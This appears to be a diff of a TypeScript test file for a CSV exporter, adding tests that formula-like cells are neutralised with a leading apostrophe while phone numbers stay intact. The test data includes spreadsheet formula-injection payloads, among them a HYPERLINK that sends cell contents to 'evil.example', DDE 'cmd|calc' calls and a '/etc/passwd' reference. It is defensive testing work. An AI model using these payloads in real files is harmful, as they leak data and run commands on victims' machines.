@@ -35,21 +35,58 @@ test('a lone empty cell is a row and not a blank line', () => {
   expect(text).toBe('reason.code\n""\n4001\n');
 });
 
-test.each(['=cmd|calc', '+1', '-1', '@x'])('%s stays what it is: a phone number begins like a formula', (content) => {
-  const text = rendered(createCsvRenderer({ ...pipe, fields: ['details.content'] }), [
-    record({ details: { content } }),
-  ]);
-  expect(text).toBe(`details.content\n${content}\n`);
+const cellOf = (content: string) => {
+  const view = { ...pipe, fields: ['details.content'] };
+  return readCsv(rendered(createCsvRenderer(view), [record({ details: { content } })]))[1]?.[0];
+};
+
+test.each([
+  '=1+1',
+  '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|calc!A0',
+  '+cmd|calc!A0',
+  '-2+3+cmd|calc!A0',
+  '+WEBSERVICE(A1)',
+  '-A1&B1',
+  "+'file:///etc/passwd'#$A.A1",
+  '＝1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+])('no spreadsheet takes %j for a formula', (content) => {
+  expect(cellOf(content)).toBe(`'${content}`);
 });
 
-test('values come back exactly, but for what a terminal obeys', () => {
+test.each([
+  '+15550100142',
+  '+1 (555) 010-0142',
+  '+1.555.010.0142',
+  '-12.5',
+  '-',
+  '+',
+  '-k_3-Q9~x',
+  'a=b',
+  '1+1',
+  ' plain',
+  '',
+])('%j is no formula, and stays what it is', (content) => {
+  expect(cellOf(content)).toBe(content);
+});
+
+/** Without the apostrophe of what would be a formula. */
+function asText(cell: string): unknown {
+  return /^[=@＝＠+\t\r\n-]/.test(cell) ? expect.toSatisfy((text) => text === cell || text === `'${cell}`) : cell;
+}
+
+test('values come back exactly, but for what a terminal or a spreadsheet obeys', () => {
   fc.assert(
     fc.property(hostileText, hostileText, (id, content) => {
       const view = { ...pipe, fields: ['id', 'details.content', 'channel'] };
       const text = rendered(createCsvRenderer(view), [record({ id, details: { content } }), record()]);
       expect(readCsv(text)).toEqual([
         ['id', 'details.content', 'channel'],
-        [withoutControls(id), withoutControls(content), 'sms'],
+        [asText(withoutControls(id)), asText(withoutControls(content)), 'sms'],
         ['8ba7b830-9dad-11d1-80b4-00c04fd430c8', '', 'sms'],
       ]);
     }),
